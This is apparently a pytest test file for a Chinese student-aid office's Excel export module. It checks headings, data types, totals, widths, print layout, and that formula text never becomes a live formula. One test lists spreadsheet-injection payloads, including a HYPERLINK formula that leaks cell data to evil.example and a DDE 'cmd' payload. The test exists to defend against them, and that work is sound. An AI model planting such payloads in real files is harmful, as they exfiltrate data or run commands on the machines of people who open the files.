"""The shared Excel writer (zaoyang_aid.excel): the layout county offices file, real Excel types,
fitted widths, a 合计 row, and no live formula in any cell whatever a name holds."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from zaoyang_aid.excel import (
    HEADER_ROW,
    CellKind,
    Chart,
    Column,
    Heading,
    Total,
    display_width,
    safe_text,
    write_sheet,
)

HEADING = Heading(
    title="测试报表(2026-2027学年第一学期)",
    unit="枣阳市学生资助管理中心",
    filters="学期:2026-2027学年第一学期;乡镇:北城街道",
    exported_at=dt.datetime(2026, 11, 16, 2, 30, tzinfo=dt.UTC),
    exported_by="刘主任(市资助中心)",
)
COLUMNS = [
    Column("name", "姓名"),
    Column("day", "结对日期", CellKind.DATE),
    Column("done", "已记周次", CellKind.INTEGER, total=Total.SUM),
    Column("owed", "应记周次", CellKind.INTEGER, total=Total.SUM),
    Column("rate", "完成率", CellKind.PERCENT, ratio_of=("done", "owed")),
]


def written(rows, columns=COLUMNS) -> tuple[openpyxl.worksheet.worksheet.Worksheet, int]:
    buffer = io.BytesIO()
    count = write_sheet(buffer, heading=HEADING, columns=columns, rows=iter(rows))
    buffer.seek(0)
    return openpyxl.load_workbook(buffer).active, count


def test_the_sheet_carries_title_unit_filter_time_and_who_then_a_styled_header():
    ws, count = written([["张小明", dt.date(2026, 9, 1), 9, 10, 0.9]])

    assert count == 1
    assert ws["A1"].value == HEADING.title and ws["A1"].font.b
    assert ws["A2"].value == "填报单位:枣阳市学生资助管理中心"
    assert ws["A3"].value == "筛选条件:学期:2026-2027学年第一学期;乡镇:北城街道"
    # 02:30 UTC is 10:30 in Zaoyang.
    assert ws["A4"].value == "导出时间:2026-11-16 10:30    导出人:刘主任(市资助中心)"
    assert [c.value for c in ws[HEADER_ROW]] == ["姓名", "结对日期", "已记周次", "应记周次", "完成率"]
    assert all(c.font.b for c in ws[HEADER_ROW])
    assert ws.freeze_panes == f"A{HEADER_ROW + 1}"
    assert ws.auto_filter.ref == f"A{HEADER_ROW}:E{HEADER_ROW + 1}"


def test_dates_are_dates_and_rates_are_numbers_shown_as_percentages():
    ws, _ = written([["张小明", dt.date(2026, 9, 1), 9, 10, 0.9]])
    _name, day, done, _owed, rate = ws[HEADER_ROW + 1]

    assert day.is_date and day.value.date() == dt.date(2026, 9, 1) and day.number_format == "yyyy-mm-dd"
    assert done.value == 9 and done.data_type == "n"
    assert rate.value == 0.9 and rate.data_type == "n" and rate.number_format == "0.0%"


def test_the_totals_row_sums_numbers_and_takes_the_rate_of_the_sums():
    ws, count = written([["甲", None, 9, 10, 0.9], ["乙", None, 1, 10, 0.1], ["丙", None, 0, 0, None]])
    totals = [c.value for c in ws[HEADER_ROW + 1 + count]]

    assert totals == ["合计", None, 10, 20, 0.5]  # not the mean of 90% and 10% alone, nor of three rows
    assert ws.auto_filter.ref == f"A{HEADER_ROW}:E{HEADER_ROW + count}"  # the filter leaves 合计 out


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"点击")',
        "+1",
        "-2",
        "@x",
        "=1+1",
        "\t=1+1",
        "\r=1+1",
        "=cmd|' /C calc'!A0",
    ],
)
def test_no_text_becomes_a_formula(name):
    ws, _ = written([[name, None, 1, 1, 1.0]])
    cell = ws.cell(HEADER_ROW + 1, 1)

    assert cell.data_type == "s"
    assert cell.value.startswith("'") and cell.value[1:].replace("\n", "\r") == name  # XML reads a CR as LF
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_a_heading_or_number_column_holding_formula_text_is_neutralised_too():
    heading = Heading("=1+1", "@单位", "-筛选", HEADING.exported_at, "+人")
    buffer = io.BytesIO()
    write_sheet(buffer, heading=heading, columns=COLUMNS, rows=[["x", "=2+2", "=3+3", 1, "@4"]])
    buffer.seek(0)
    ws = openpyxl.load_workbook(buffer).active

    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
    assert ws["A1"].value == "'=1+1"
    assert [c.value for c in ws[HEADER_ROW + 1]][1:3] == ["'=2+2", "'=3+3"]


def test_characters_xml_cannot_carry_are_dropped_instead_of_failing_the_file():
    ws, _ = written([["张\x01小\x1f明", None, 1, 1, 1.0]])

    assert ws.cell(HEADER_ROW + 1, 1).value == "张小明"


def test_widths_fit_chinese_text_which_counts_double():
    assert display_width("张小明") == 6 and display_width("ab") == 2 and display_width("\uff08A\uff09") == 5
    ws, _ = written([["欧阳诸葛明月清风", None, 1, 1, 1.0]])

    # The file stores Excel's column width, the characters asked for plus the cell's padding (5 of 7
    # pixels), which Excel takes off again to show exactly the characters asked for.
    assert ws.column_dimensions["A"].width - 5 / 7 == pytest.approx(display_width("欧阳诸葛明月清风") + 2, abs=0.01)
    assert ws.column_dimensions["B"].width >= 10  # a date's yyyy-mm-dd


def test_rows_are_taken_from_an_iterator_once():
    consumed = []

    def rows():
        for i in range(500):
            consumed.append(i)
            yield [f"学生{i}", None, 1, 1, 1.0]

    ws, count = written(rows())

    assert count == 500 == len(consumed)
    assert ws.cell(HEADER_ROW + 500, 1).value == "学生499"


def test_safe_text_leaves_ordinary_text_alone():
    assert safe_text("张小明") == "张小明"
    assert safe_text("420683201203040014") == "420683201203040014"


def test_an_aware_export_time_in_another_zone_is_written_in_zaoyang_time():
    heading = Heading("t", "u", "f", dt.datetime(2026, 11, 16, 12, 0, tzinfo=ZoneInfo("Europe/Berlin")), "p")
    buffer = io.BytesIO()
    write_sheet(buffer, heading=heading, columns=COLUMNS[:1], rows=[])
    buffer.seek(0)

    assert "2026-11-16 19:00" in openpyxl.load_workbook(buffer).active["A4"].value


def test_the_title_row_is_tall_enough_and_the_sheet_prints_landscape_one_page_wide():
    """LibreOffice's PDF of the town report cut the 16 pt title in half and split the table and its
    chart over four pages."""
    ws, _ = written([["张三", dt.date(2026, 9, 1), 3, 4, 0.75]])
    assert ws.row_dimensions[1].height >= 24
    assert ws.page_setup.orientation == "landscape"
    # One page wide: fitToWidth 1 is the schema's default, which a writer may leave out of the file.
    assert ws.sheet_properties.pageSetUpPr.fitToPage and (ws.page_setup.fitToWidth or 1) == 1
    assert ws.page_setup.fitToHeight == 0  # as many pages long as it takes
    assert ws.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"


def test_the_chart_labels_each_bar_with_its_value():
    """The towns' rates differ by a few points: bars from 0 to 100% alone do not show it."""
    buffer = io.BytesIO()
    chart = Chart(title="各乡镇完成率", category="name", value="rate")
    write_sheet(
        buffer,
        heading=HEADING,
        columns=COLUMNS,
        rows=iter([["甲镇", None, 9, 10, 0.9], ["乙镇", None, 9, 9, 1.0]]),
        chart=chart,
    )
    buffer.seek(0)
    with zipfile.ZipFile(buffer) as xlsx:
        xml = next(xlsx.read(n).decode() for n in xlsx.namelist() if n.startswith("xl/charts/chart"))
    assert re.search(r"<(\w+:)?dLbls>", xml) and re.search(r'<(\w+:)?showVal val="1"\s*/>', xml)
